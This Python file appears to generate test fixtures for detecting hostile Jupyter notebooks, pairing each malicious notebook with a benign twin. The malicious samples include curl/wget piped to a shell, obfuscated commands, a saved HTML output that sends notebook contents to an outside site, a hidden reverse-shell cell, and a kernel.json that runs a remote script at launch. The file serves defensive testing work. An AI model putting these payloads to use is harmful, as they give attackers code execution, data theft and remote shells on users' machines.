"""Notebooks: cells, magics, outputs and kernels that act."""

from __future__ import annotations

import base64
import json

from seventh.kit import HOST, SITE


def cell(source: str, outputs=(), **metadata) -> dict:
    return {
        "cell_type": "code",
        "execution_count": 1,
        "metadata": metadata,
        "outputs": list(outputs),
        "source": source.splitlines(keepends=True),
    }


def text(source: str) -> dict:
    return {"cell_type": "markdown", "metadata": {}, "source": source.splitlines(keepends=True)}


def notebook(*cells, kernel="python3", language="python", **metadata) -> str:
    spec = {"display_name": kernel, "language": language, "name": kernel}
    first = (
        [text("# Fine-tuning a small ranker\n\nLoads the weights and plots the loss."), cell("epochs = 3\nrate = 1e-4\n")]
        if language == "python"
        else [text("# A small model")]
    )
    return json.dumps(
        {
            "cells": [*first, *cells],
            "metadata": {"kernelspec": spec, "language_info": {"name": language}, **metadata},
            "nbformat": 4,
            "nbformat_minor": 5,
        },
        indent=1,
    )


def add(out):
    def one(name, hostile, twin, why="", prove=None, file="train.ipynb"):
        out.add("notebooks", name, hostile, twin, prove, file, why)

    one(
        "shell_escape_pipes_the_net",
        notebook(cell(f"!wget -q -O - http://{HOST}/setup | bash\n")),
        notebook(cell("!wget -q https://huggingface.co/datasets/glue/resolve/main/README.md -O README.md\n")),
        "what is fetched goes to a shell; the twin fetches a text",
        "notebook",
    )
    packed = base64.b64encode(b"touch marker").decode()
    one(
        "cell_magic_decodes",
        notebook(cell(f"%%bash\necho {packed} | base64 --decode | sh\n")),
        notebook(cell(f"%%bash\necho {packed} | wc -c\n")),
        "a bash cell runs what it decodes",
        "notebook",
    )
    letters = ", ".join(str(ord(c)) for c in "touch marker")
    one(
        "shell_by_letters",
        notebook(cell(f"ip = get_ipython()\ncmd = ''.join(map(chr, [{letters}]))\ngetattr(ip, 'sys' + 'tem')(cmd)\n")),
        notebook(cell(f"ip = get_ipython()\ncmd = ''.join(map(chr, [{letters}]))\nprint(len(cmd))\n")),
        "the shell's name and its command are put together",
        "notebook",
    )
    script = {
        "output_type": "display_data",
        "metadata": {},
        "data": {
            "text/html": [
                f"<div id='p'></div><script>fetch('/api/contents/').then(r=>r.text()).then(t=>fetch('https://{SITE}/n',{{method:'POST',body:t}}));Jupyter.notebook.kernel.execute('import os;os.system(\"id\")')</script>"
            ],
            "text/plain": ["<Figure>"],
        },
    }
    chart = {
        "output_type": "display_data",
        "metadata": {},
        "data": {
            "text/html": [
                "<div id='p'></div><script>window.addEventListener('load',()=>{document.getElementById('p').textContent='loss 0.31'});</script>"
            ],
            "text/plain": ["<Figure>"],
        },
    }
    one(
        "saved_output_runs_in_the_browser",
        notebook(cell("plot(history)\n", [script])),
        notebook(cell("plot(history)\n", [chart])),
        "a kept output drives the kernel when the page is opened; the twin's draws its own text",
    )
    one(
        "hidden_initial_cell",
        notebook(
            cell(
                "import pty, socket\ns = socket.socket(); s.connect(('198.51.100.23', 9001))\npty.spawn('/bin/sh')\n",
                init_cell=True,
                jupyter={"source_hidden": True},
                tags=["remove-input"],
            )
        ),
        notebook(
            cell(
                "import math, random\nrandom.seed(7)\nprint(math.pi)\n",
                init_cell=True,
                jupyter={"source_hidden": True},
                tags=["remove-input"],
            )
        ),
        "a cell that is folded away and runs first opens a shell to a host",
        "notebook",
    )
    one(
        "r_kernel",
        notebook(
            cell(f"fit <- readRDS(url('http://{HOST}/fit.rds'))\nsystem(paste0('sh ', fit$path), intern = TRUE)\n"),
            kernel="ir",
            language="R",
        ),
        notebook(cell("fit <- readRDS('fit.rds')\nsummary(fit)\n"), kernel="ir", language="R"),
        "an R notebook runs what a remote object names",
    )
    one(
        "line_magic_preloads",
        notebook(cell(f"%env LD_PRELOAD=/var/lib/.fonts/libz.so\n%load_ext autoreload\n%run -i http://{HOST}/boot.py\n")),
        notebook(cell("%env TOKENIZERS_PARALLELISM=false\n%load_ext autoreload\n%autoreload 2\n")),
        "line magics preload a library and run a remote file",
    )
    one(
        "kernel_start_up_arguments",
        json.dumps(
            {
                "argv": [
                    "python",
                    "-c",
                    "import os;os.system('curl -s http://198.51.100.23/k | sh');from ipykernel import kernelapp as a;a.launch_new_instance()",
                    "-f",
                    "{connection_file}",
                ],
                "display_name": "Torch 2.4 (GPU)",
                "language": "python",
            }
        ),
        json.dumps(
            {
                "argv": ["python", "-m", "ipykernel_launcher", "-f", "{connection_file}"],
                "display_name": "Torch 2.4 (GPU)",
                "language": "python",
            }
        ),
        "a kernel specification starts more than the kernel",
        None,
        "kernels/torch/kernel.json",
    )
